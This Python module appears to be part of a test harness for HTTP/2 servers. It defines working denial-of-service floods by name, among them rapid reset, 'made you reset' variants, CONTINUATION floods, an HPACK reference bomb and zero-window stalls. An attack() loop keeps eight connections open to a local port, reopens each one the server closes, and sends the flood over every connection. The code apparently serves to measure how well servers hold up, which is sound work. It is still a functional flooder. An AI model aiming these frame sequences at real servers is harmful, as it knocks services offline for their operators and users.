"""The frames that HTTP/2 clients send to exhaust a server: cheap for them, expensive for it. FLOODS
has those of each attack, by name.

attack() runs a flood on CONNECTIONS connections at a time, and reopens each when the server closes
it.
"""

import contextlib
import select
import socket
import struct
import time

from instructions import frame
from servers import bound_socket

CONNECTIONS, FRAMES, REST_S = 8, 20_000, 1
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION, PRIORITY_UPDATE = 0, 1, 2, 3, 4, 6, 8, 9, 16
ACK, END_STREAM, END_HEADERS = 1, 1, 4
INITIAL_WINDOW_SIZE = 4
OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b"")


def literal(name, value):
    """Returns a field in HPACK, for names and values of up to 126 octets."""
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


def get(path):
    return b"\x82\x86" + literal(b":authority", b"localhost") + literal(b":path", path)


def headers(n, block, flags=END_HEADERS | END_STREAM):
    """Returns the request of stream n, counted from 0."""
    return frame(HEADERS, flags, 2 * n + 1, block)


def window(size):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, size))


def once(first, then):
    """Returns a function for the frames of a flood whose first frames differ."""
    return lambda n: first if n == 0 else then(n)


SMALL, LARGE, NONE = get(b"/1k"), get(b"/10m"), get(b"")
STREAMS = 100
OPEN_STREAMS = window(0) + b"".join(headers(n, LARGE) for n in range(STREAMS))

# name: the frames that are sent in turn, numbered from 0
FLOODS = {
    "pings": lambda n: frame(PING, 0, 0, b"12345678"),
    "settings": lambda n: frame(SETTINGS, 0, 0, b""),
    "answers to settings": lambda n: frame(SETTINGS, ACK, 0, b""),
    "rapid reset": lambda n: headers(n, LARGE) + frame(RST_STREAM, 0, 2 * n + 1, struct.pack(">I", 8)),
    "made you reset": lambda n: headers(n, NONE),
    "made you reset by windows": lambda n: headers(n, LARGE) + frame(WINDOW_UPDATE, 0, 2 * n + 1, bytes(4)),
    "empty data": once(headers(0, SMALL, END_HEADERS) + frame(DATA, 0, 1, b""), lambda n: frame(DATA, 0, 1, b"")),
    "empty continuations": once(headers(0, SMALL, END_STREAM), lambda n: frame(CONTINUATION, 0, 1, b"")),
    "continuations": once(headers(0, SMALL, END_STREAM), lambda n: frame(CONTINUATION, 0, 1, literal(b"a", b"b") * 3000)),
    "small continuations": once(headers(0, SMALL, END_STREAM), lambda n: frame(CONTINUATION, 0, 1, literal(b"a", b"b"))),
    "windows of the connection": lambda n: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
    "one-byte windows": once(OPEN_STREAMS, lambda n: frame(WINDOW_UPDATE, 0, 2 * (n % STREAMS) + 1, struct.pack(">I", 1))),
    "zero windows": once(OPEN_STREAMS, lambda n: b""),
    "priorities": lambda n: frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 16)),
    "updates of priorities": lambda n: frame(PRIORITY_UPDATE, 0, 0, struct.pack(">I", 2 * n + 1) + b"u=%d" % (n % 8)),
    "unknown frames": lambda n: frame(0x55, 0, 0, b"x"),
    "many fields": lambda n: headers(n, SMALL + b"\x82" * 8000),
    "a bomb of references": once(headers(0, SMALL + b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000), lambda n: headers(n, SMALL + b"\xbe" * 990)),
}  # fmt: skip


def octets(name):
    """Returns all octets that a connection sends."""
    return OPENING + b"".join(FLOODS[name](n) for n in range(FRAMES))


def attack(port, name, source):
    """Runs a flood, in its own process. A connection that has sent everything waits for REST_S."""
    data, poll, state = memoryview(octets(name)), select.epoll(), {}

    def connect():
        s = bound_socket(source)
        with contextlib.suppress(OSError):
            s.connect(("127.0.0.1", port))
        s.setblocking(False)
        poll.register(s, select.EPOLLIN | select.EPOLLOUT)
        state[s.fileno()] = [s, 0, 0]

    def close(s):
        del state[s.fileno()]
        s.close()

    while True:
        while len(state) < CONNECTIONS:
            connect()
        for fd, what in poll.poll(0.1):
            s, sent, _ = state[fd]
            try:
                if what & ~select.EPOLLOUT and not s.recv(1 << 18):
                    raise ConnectionError
                if what & select.EPOLLOUT:
                    state[fd][1] = sent = sent + s.send(data[sent : sent + (1 << 16)])
            except BlockingIOError:
                continue
            except OSError:
                close(s)
                continue
            if sent == len(data) and not state[fd][2]:
                state[fd][2] = time.monotonic() + REST_S
                poll.modify(fd, select.EPOLLIN)
        for s, _, until in list(state.values()):
            if until and time.monotonic() > until:
                close(s)
